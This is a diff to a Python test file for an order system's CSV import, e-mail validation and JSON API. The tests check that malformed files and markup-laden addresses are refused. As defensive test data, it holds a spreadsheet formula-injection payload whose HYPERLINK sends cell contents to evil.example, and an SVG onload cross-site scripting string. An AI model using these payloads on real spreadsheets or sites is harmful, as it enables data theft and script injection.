@@ -5,8 +5,10 @@ of the console's catalogue."""
 
 from __future__ import annotations
 
+import codecs
 import csv
 import io
+import json
 import os
 import time
 from collections.abc import Iterator
@@ -16,12 +18,13 @@ from urllib.parse import unquote
 
 import pytest
 from fastapi.testclient import TestClient
+from pydantic import ValidationError
 from sqlalchemy import insert
 
-from domain.access import Role
+from domain.access import Role, SystemRole
 from domain.catalogue import ProductRecord, Sourcing
 from domain.complaints import ComplaintCategory
-from domain.customers import CustomerRecord
+from domain.customers import ERASED_EMAIL, ContactRecord, CustomerRecord
 from persistence.catalogue_files import Kind, export_text, import_report, import_text
 from persistence.csv_files import CsvFileError, read_csv, write_csv
 from persistence.customer_files import export_customers, import_customers
@@ -39,9 +42,11 @@ from persistence.transactions.customers import customer_changes, find_customer, 
 from runtime.settings import Settings
 from tests.commands import oms
 from tests.test_complaint_analysis import WEEK, at, complaint, order
+from tests.test_from_outside_api import api, headers, keys  # noqa: F401 - fixtures
 from tests.test_web_admin import PASSWORD, log_in
 from tests.test_web_stock_operations import text_of
 from web.app import create_app
+from web.json_body import read_json
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "@SUM(1)", "-2+3"]
 """Product names a spreadsheet would compute if written as they are (the issue's)."""
@@ -397,6 +402,159 @@ def test_other_separators_and_empty_files_say_what_is_wrong(
         import_text(db, Kind.PRODUCTS, text)
     assert len(refused.value.problems) == 1
     assert refused.value.problems[0].startswith(problem)
+
+
+# The outside tester's second round: a quote never closed, a row cut short.
+
+UNCLOSED = 'line 2: a quoted cell is never closed (a " opens it; close it, or double a " inside it)'
+
+
+@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
+def test_an_unclosed_quote_refuses_the_whole_file_from_the_command_line(
+    db: Database, database_url: str, tmp_path: Path
+) -> None:
+    load_products(db, [ProductRecord(sku="HX-2", name="Widget", unit_price=Decimal("3.00"))])
+    products = tmp_path / "s.csv"
+    products.write_text(
+        'sku,name,unit_price\nHX-2,"Widget 10"" wide,3.00\nHX-3,Other,4.00\nHX-4,Third,5.00\n',
+        encoding="utf-8",
+    )
+    environment = {**os.environ, "OMS_DATABASE_URL": database_url}
+    done = oms("catalogue", "import", "products", str(products), environment=environment)
+    assert done.returncode == 1
+    assert f"{products}: {UNCLOSED}" in done.stderr
+    kept = stored_record(db, ProductRecord, ("HX-2",))
+    assert kept is not None
+    assert kept.name == "Widget"
+    assert stored_record(db, ProductRecord, ("HX-3",)) is None
+
+
+def test_an_unclosed_quote_in_an_uploaded_customers_file_changes_nothing(
+    client: TestClient, db: Database
+) -> None:
+    before = find_customer(db, "CUST-BOLT")
+    token = log_in(client, "mia.chen")
+    uploaded = client.post(
+        "/customers/import",
+        data={"csrf_token": token},
+        files={"file": ("notes.csv", b'id,notes\nCUST-BOLT,"oops\nCUST-JANE,hi\n')},
+    )
+    assert uploaded.status_code == 422
+    assert f"Nothing was imported: {UNCLOSED}" in text_of(uploaded.text)
+    assert find_customer(db, "CUST-BOLT") == before
+
+
+def test_a_quoted_cell_may_still_span_lines(db: Database) -> None:
+    done = import_customers(
+        db, 'id,notes\nCUST-BOLT,"gate code 1234\nring twice"\nCUST-JANE,hi\n', "mia.chen"
+    )
+    assert import_report(done)[0] == "0 created, 2 updated, 0 unchanged"
+    bolt, jane = find_customer(db, "CUST-BOLT"), find_customer(db, "CUST-JANE")
+    assert bolt is not None
+    assert jane is not None
+    assert (bolt.notes, jane.notes) == ("gate code 1234\nring twice", "hi")
+
+
+@pytest.mark.parametrize(
+    ("text", "problem"),
+    [
+        (
+            "sku,name,unit_price\nHX-1,x\n",
+            "line 2: 2 cells where the first line names 3 columns; give every column a cell "
+            "(an empty one is two commas side by side)",
+        ),
+        (
+            'sku,name,unit_price\nHX-1,"x" wide,1.00\n',
+            'line 2: a quoted cell goes on after the " that closes it; quote the whole cell '
+            'and double a " inside it',
+        ),
+    ],
+)
+def test_a_short_row_or_a_cell_after_its_quote_is_refused(
+    db: Database, text: str, problem: str
+) -> None:
+    with pytest.raises(CsvFileError) as refused:
+        import_text(db, Kind.PRODUCTS, text)
+    assert refused.value.problems == [problem]
+    assert stored_record(db, ProductRecord, ("HX-1",)) is None
+
+
+def test_a_spreadsheets_trailing_empty_columns_still_need_no_cells() -> None:
+    table = read_csv("sku,name,unit_price,,\nHX-1,x,1.00\nHX-2,y,2.00,,\n", required=["sku"])
+    assert [row.cells for row in table.rows] == [
+        {"sku": "HX-1", "name": "x", "unit_price": "1.00"},
+        {"sku": "HX-2", "name": "y", "unit_price": "2.00"},
+    ]
+
+
+SCRIPT_ADDRESS = 'x"><svg/onload=alert(3)>@example.org'
+"""The tester's e-mail address: markup, not an address a mail server takes."""
+NOT_AN_ADDRESS = (
+    "not an e-mail address a mail server takes; write it as name@example.org, without "
+    'spaces, quotes or <>(),;:"[]\\'
+)
+
+
+def test_a_customers_file_with_an_address_that_is_markup_is_refused(db: Database) -> None:
+    before = find_customer(db, "CUST-JANE")
+    with pytest.raises(CsvFileError) as refused:
+        import_customers(db, f"id,email\nCUST-JANE,{SCRIPT_ADDRESS}\n", "mia.chen")
+    assert refused.value.problems == [f"line 2, column 'email': {NOT_AN_ADDRESS}"]
+    assert find_customer(db, "CUST-JANE") == before
+
+
+@pytest.mark.parametrize(
+    "address", [SCRIPT_ADDRESS, "jane@bolt,example.org", "jane@localhost.localhost"]
+)
+def test_customer_and_contact_records_refuse_what_is_not_an_address(address: str) -> None:
+    with pytest.raises(ValidationError, match="not an e-mail address"):
+        CustomerRecord(id="CUST-X", name="X", email=address)
+    with pytest.raises(ValidationError, match="not an e-mail address"):
+        ContactRecord(name="X", email=address)
+
+
+@pytest.mark.parametrize(
+    "address", ["jane@example.org", "Jürgen.Groß@straße.example", "a+b@bolt.example", ERASED_EMAIL]
+)
+def test_addresses_people_have_and_the_erased_placeholder_are_kept_as_written(
+    address: str,
+) -> None:
+    assert CustomerRecord(id="CUST-X", name="X", email=address).email == address
+    assert ContactRecord(name="X", email=address).email == address
+    assert ContactRecord(name="X").email == ""
+
+
+def test_the_api_refuses_an_address_that_is_markup(
+    api: TestClient,  # noqa: F811
+    keys: dict[SystemRole, str],  # noqa: F811
+) -> None:
+    sent = [{"id": "CUST-OUT", "name": "Outside Ltd", "email": SCRIPT_ADDRESS}]
+    answer = api.post("/api/v1/customers", json=sent, headers=headers(keys[SystemRole.CRM]))
+    assert answer.status_code == 422
+    assert [(e["pointer"], e["detail"]) for e in answer.json()["errors"]] == [
+        ("#/0/email", NOT_AN_ADDRESS)
+    ]
+    assert "<svg" not in answer.text
+
+
+def test_a_json_body_after_a_byte_order_mark_is_read(
+    api: TestClient,  # noqa: F811
+    keys: dict[SystemRole, str],  # noqa: F811
+    db: Database,
+) -> None:
+    assert read_json(b"\xef\xbb\xbf" + b'{"a": [1]}') == {"a": [1]}
+    sent = [{"id": "CUST-BOM", "name": "Notepad Ltd", "email": "buyer@notepad.example"}]
+    body = codecs.BOM_UTF8 + json.dumps(sent).encode()
+    answer = api.post("/api/v1/customers", content=body, headers=headers(keys[SystemRole.CRM]))
+    assert answer.status_code == 200, answer.text
+    saved = find_customer(db, "CUST-BOM")
+    assert saved is not None
+    assert saved.name == "Notepad Ltd"
+    latin = codecs.BOM_UTF8 + b'[{"id": "CUST-BOM",\n "name": "Caf\xe9"}]'
+    refused = api.post("/api/v1/customers", content=latin, headers=headers(keys[SystemRole.CRM]))
+    assert refused.status_code == 400
+    where = latin.index(b"\xe9")
+    assert refused.json()["detail"].startswith(f"byte {where} (line 2) is not UTF-8")
 
 
 # Item 31: the console's catalogue a page at a time.
